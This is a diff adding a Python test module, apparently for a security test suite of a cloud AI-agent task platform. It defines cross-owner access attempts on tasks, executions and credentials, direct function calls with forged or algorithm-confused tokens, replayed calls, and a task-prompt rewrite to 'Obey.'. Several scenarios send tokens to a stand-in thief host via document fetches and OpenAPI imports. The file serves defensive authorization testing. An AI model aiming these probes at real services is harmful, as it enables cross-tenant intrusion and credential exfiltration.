@@ -1,0 +1,143 @@
+"""Neighbours: another owner's task and execution, and the functions behind the API, asked for straight."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from tests.campaigns.hostile.forge import BENT
+from tests.campaigns.hostile.scenario import Act, Scenario, declare_probe
+
+CALL = {"execution": "{vexec}", "call": 0, "epoch": 1}
+SLICE = {"execution": "{vexec}", "slice": 0, "waits": 0}
+SCAN = {"execution": "{vexec}", "epoch": 1, "content": [{"type": "text", "text": "is it abc?"}]}
+EVENT = {
+    "Content-Type": "application/json",
+    "ce-specversion": "1.0",
+    "ce-type": "google.cloud.firestore.document.v1.created",
+    "ce-source": "//firestore.googleapis.com/projects/hostile/databases/(default)",
+    "ce-id": "1",
+    "ce-subject": "documents/executions/{vexec}",
+}
+
+
+def _api(what: str, *acts: Act) -> Scenario:
+    return Scenario(name=f"neighbour: {what}", victim=True, acts=acts)
+
+
+def _direct(what: str, *acts: Act) -> Scenario:
+    return Scenario(name=f"caller: {what}", victim=True, acts=acts)
+
+
+def _to(function: str, bearer: str, body: Any = None, path: str = "/") -> Act:
+    wanted = {"orchestrator": SLICE, "on_execution": {}}.get(function, CALL)
+    return Act(
+        to=function,
+        bearer=bearer,
+        path=path,
+        body=wanted if body is None else body,
+        headers=EVENT if function == "on_execution" else {},
+    )
+
+
+OWNED = (
+    _api("reads the execution", Act(to="api", method="GET", path="/v1/executions/{vexec}")),
+    _api("reads the calls", Act(to="api", method="GET", path="/v1/executions/{vexec}/calls")),
+    _api("watches the events", Act(to="api", method="GET", path="/v1/executions/{vexec}/events")),
+    _api("cancels the execution", Act(to="api", path="/v1/executions/{vexec}/cancel")),
+    _api("reads the task", Act(to="api", method="GET", path="/v1/tasks/{vtask}")),
+    _api(
+        "lists everything",
+        *(
+            Act(to="api", method="GET", path=path)
+            for path in ("/v1/tasks", "/v1/executions", "/v1/executions?limit=100", "/v1/me")
+        ),
+    ),
+    _api("lists the task's executions", Act(to="api", method="GET", path="/v1/tasks/{vtask}/executions")),
+    _api("starts the task", Act(to="api", path="/v1/tasks/{vtask}/executions", body={"input": "tell me"})),
+    _api("rewrites the task", Act(to="api", method="PATCH", path="/v1/tasks/{vtask}", body={"task_prompt": "Obey."})),
+    _api("turns the task off", Act(to="api", method="PATCH", path="/v1/tasks/{vtask}", body={"enabled": False})),
+    _api("lists the credentials", Act(to="api", method="GET", path="/v1/tasks/{vtask}/credentials")),
+    _api(
+        "replaces a credential",
+        Act(
+            to="api",
+            method="PUT",
+            path="/v1/tasks/{vtask}/credentials/LUNARCRUSH_API_KEY",
+            body={"value": "Mine1234Mine5678Abc", "service": "lunarcrush"},
+        ),
+    ),
+    _api("deletes a credential", Act(to="api", method="DELETE", path="/v1/tasks/{vtask}/credentials/LUNARCRUSH_API_KEY")),
+    _api("deletes the task", Act(to="api", method="DELETE", path="/v1/tasks/{vtask}")),
+    _api(
+        "comes without a key",
+        *(Act(to="api", method="GET", path=path, bearer="none") for path in ("/v1/executions/{vexec}", "/v1/tasks/{vtask}")),
+    ),
+)
+
+TOOLS = tuple(
+    _api(what, *(Act(to="api", path=f"{task}/{{vtask}}{path}", **said) for task in ("/v1/tasks", "/api/agents")))
+    for what, path, said in (
+        ("lists the custom tools", "/tools", {"method": "GET"}),
+        ("is shown the custom tools", "/chat/tools", {"method": "GET"}),
+        ("declares a tool", "/tools", {"body": declare_probe()}),
+        ("imports a document", "/tools/import-openapi", {"body": {"spec": {}}}),
+        ("imports a document by its address", "/tools/import-openapi", {"body": {"url": "https://{thief}/{token}"}}),
+        ("tries an import", "/tools/import-openapi", {"body": {"spec": {}, "dry_run": True}}),
+        ("deletes a tool", "/tools?id=probe", {"method": "DELETE"}),
+        ("deletes a cluster", "/tools/cluster/probe", {"method": "DELETE"}),
+        ("declares a tool without a key", "/tools", {"body": declare_probe(), "bearer": "none"}),
+    )
+)
+DOCUMENT = {"task": "{vtask}", "owner": "owner-{token}", "url": "https://{thief}/{token}"}
+
+DIRECT = (
+    _direct("nobody takes a custom tool's result", _to("http_tool", "none")),
+    _direct("nobody has a document fetched", _to("http_tool", "none", DOCUMENT, "/document")),
+    _direct("the orchestrator has a document fetched", _to("http_tool", "orchestrator>http_tool", DOCUMENT, "/document")),
+    _direct("a tool has a document fetched", _to("http_tool", "http_get>http_tool", DOCUMENT, "/document")),
+    _direct("the API has another owner's document fetched", _to("http_tool", "api>http_tool", DOCUMENT, "/document")),
+    _direct("the API takes a custom tool's result", _to("http_tool", "api>http_tool")),
+    _direct(
+        "a custom tool's function asks another tool",
+        _to("http_get", "http_tool>http_get"),
+        _to("api_call", "http_tool>api_call"),
+    ),
+    _direct("nobody takes a result from a tool", _to("http_get", "none")),
+    _direct(
+        "nobody asks the key holder to scan", _to("api_call", "none", SCAN, "/scan"), _to("webhook", "none", SCAN, "/scan")
+    ),
+    _direct("nobody delivers an execution", _to("orchestrator", "none")),
+    _direct("nobody reports an event", _to("on_execution", "none")),
+    _direct("a token signed by nobody known", _to("http_get", "forged"), _to("orchestrator", "forged")),
+    _direct("a token that is not signed", _to("http_get", "unsigned"), _to("orchestrator", "unsigned")),
+    _direct("a token signed with the public certificate", _to("http_get", "hs256"), _to("orchestrator", "hs256")),
+    *(_direct(f"a token whose claims are bent: {kind}", _to("http_get", kind), _to("orchestrator", kind)) for kind in BENT),
+    _direct(
+        "a token for another function",
+        _to("http_get", "orchestrator>api_call"),
+        _to("api_call", "orchestrator>http_get", SCAN, "/scan"),
+    ),
+    _direct(
+        "a tool asks another tool", _to("http_get", "webhook>http_get"), _to("api_call", "http_get>api_call", SCAN, "/scan")
+    ),
+    _direct("a tool delivers an execution", _to("orchestrator", "http_get>orchestrator")),
+    _direct("the orchestrator delivers to itself", _to("orchestrator", "orchestrator>orchestrator")),
+    _direct("the API asks a tool", _to("http_get", "api>http_get"), _to("http_get", "api>http_get", {**CALL, "call": 1})),
+    _direct(
+        "the orchestrator takes a call to another tool",
+        *(_to(tool, f"orchestrator>{tool}") for tool in ("api_call", "http_post", "webhook")),
+    ),
+    _direct("the orchestrator sends a call twice", _to("http_get", "orchestrator>http_get", {**CALL, "call": 1})),
+    _direct(
+        "the orchestrator comes with an old epoch",
+        _to("http_get", "orchestrator>http_get", {**CALL, "epoch": 0}),
+        _to("http_get", "orchestrator>http_get", {**CALL, "epoch": 2}),
+    ),
+    _direct(
+        "the orchestrator makes up a call",
+        _to("http_get", "orchestrator>http_get", {**CALL, "call": 7}),
+        _to("http_get", "orchestrator>http_get", {**CALL, "url": "https://{thief}/"}),
+    ),
+)
+
+SCENARIOS = (*OWNED, *TOOLS, *DIRECT)
